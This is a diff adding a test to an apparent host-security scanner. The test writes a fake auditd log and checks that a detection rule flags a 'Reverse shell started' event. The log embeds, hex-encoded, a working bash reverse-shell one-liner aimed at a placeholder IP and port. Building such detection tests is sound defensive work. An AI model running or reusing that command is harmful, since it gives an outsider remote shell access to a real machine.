@@ -100,3 +100,24 @@ def test_rules_cli(tmp_path: Path) -> None:
     assert checked.exit_code == 1 and "CSA-5003" in checked.stderr and "broken" in checked.stderr
     missing = runner.invoke(app, ["check", str(tmp_path / "nope.yml")])
     assert missing.exit_code == 2 and "CSA-5003" in missing.stderr
+
+
+def test_auditd_process_rules_fire_on_parsed_audit_log(tmp_path: Path) -> None:
+    root = tmp_path / "root"
+    audit = root / "var" / "log" / "audit"
+    audit.mkdir(parents=True)
+    shell = b"bash -i >& /dev/tcp/203.0.113.5/4444 0>&1".hex().upper()
+    audit.joinpath("audit.log").write_text(
+        'type=SYSCALL msg=audit(1764324000.100:901): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=4 '
+        'items=2 ppid=1 pid=4242 auid=1000 uid=33 gid=33 euid=33 suid=33 fsuid=33 egid=33 sgid=33 fsgid=33 tty=(none) '
+        'ses=4 comm="bash" exe="/usr/bin/bash" key="exec"\n'
+        f'type=EXECVE msg=audit(1764324000.100:901): argc=3 a0="bash" a1="-c" a2={shell}\n'
+        'type=SYSCALL msg=audit(1764324001.100:902): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=4 '
+        'items=2 ppid=1 pid=4243 auid=1000 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 '
+        'ses=4 comm="ls" exe="/usr/bin/ls" key="exec"\n'
+        'type=EXECVE msg=audit(1764324001.100:902): argc=2 a0="ls" a1="-la"\n'
+    )
+    findings = DetectionScanner().scan(ScanContext(root=root))
+    assert [f["rule.name"] for f in findings] == ["Reverse shell started"]
+    assert findings[0]["hostwarden.grade"] == "L1"
+    assert "/dev/tcp/" in json.dumps(findings[0]["hostwarden.evidence"])
